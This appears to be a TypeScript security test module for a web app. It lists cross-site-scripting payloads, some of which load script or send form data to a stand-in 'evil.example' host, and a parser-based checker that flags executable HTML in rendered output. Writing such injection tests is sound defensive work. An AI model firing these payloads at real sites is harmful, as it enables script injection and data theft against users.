import { Parser } from "htmlparser2";

/** Script-injection vectors pushed through every user-text field. */
export const XSS_VECTORS: string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  "<iframe src=javascript:alert(1)></iframe>",
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  "<body onload=alert(1)>",
  '<a href="javascript:alert(1)">click</a>',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/track.png)",
  "<a href='#' onclick='alert(1)'>x</a>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  "<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<style>body{background:url(javascript:alert(1))}</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "<base href='https://evil.example/'>",
  "<form action=https://evil.example><button>go</button></form>",
  "javascript:alert(1)",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "]]><script>alert(1)</script><![CDATA[",
  "</title><script>alert(1)</script>",
  "<!--<script>alert(1)</script>-->",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
];

const FORBIDDEN = new Set([
  "script",
  "iframe",
  "object",
  "embed",
  "style",
  "base",
  "frame",
  "frameset",
  "applet",
  "video",
  "audio",
  "source",
  "math",
  "details",
  "textarea",
  "select",
  "button",
]);
const OWN_BUTTON = (attrs: Record<string, string>) => attrs.type === "submit";
/** The page's own time zone chooser (escaped user text can never build one). */
const OWN_SELECT = (attrs: Record<string, string>) => attrs.id === "tz" && attrs.name === "tz";

/**
 * Parses output as a browser would and lists anything executable: script
 * elements, inline handlers, script URLs, and elements that load or submit to
 * other origins.
 */
export function executableProblems(output: string, options: { consoleForms?: boolean } = {}): string[] {
  const problems: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attrs) {
        const own =
          (name === "button" && OWN_BUTTON(attrs)) ||
          (name === "select" && OWN_SELECT(attrs)) ||
          // The console's own fields: every one has an id "f-<name>" and a name.
          (options.consoleForms === true &&
            (name === "select" || name === "textarea") &&
            (attrs.id ?? "").startsWith("f-") &&
            Boolean(attrs.name));
        if (FORBIDDEN.has(name) && !own) problems.push(`<${name}>`);
        for (const [key, value] of Object.entries(attrs)) {
          if (key.startsWith("on")) problems.push(`<${name} ${key}>`);
          if (["href", "src", "action", "formaction", "data", "xlink:href"].includes(key)) {
            const v = value.trim().toLowerCase();
            if (/^(javascript|vbscript|data):/.test(v.replace(/\s+/g, "")))
              problems.push(`<${name} ${key}="${value}">`);
            if (name !== "a" && /^(https?:)?\/\//.test(v)) problems.push(`<${name} ${key}> loads ${value}`);
          }
        }
        if (name === "meta" && attrs["http-equiv"]) problems.push("<meta http-equiv>");
        if (name === "link" && !["stylesheet", "icon", "alternate"].includes(attrs.rel ?? ""))
          problems.push(`<link rel=${attrs.rel}>`);
        if (name === "img" && !(attrs.src ?? "").startsWith("/")) problems.push(`<img src=${attrs.src}>`);
        if (name === "form" && !(attrs.action ?? "").startsWith("/"))
          problems.push(`<form action=${attrs.action}>`);
      },
    },
    { decodeEntities: true, lowerCaseAttributeNames: true },
  );
  parser.write(output);
  parser.end();
  return problems;
}
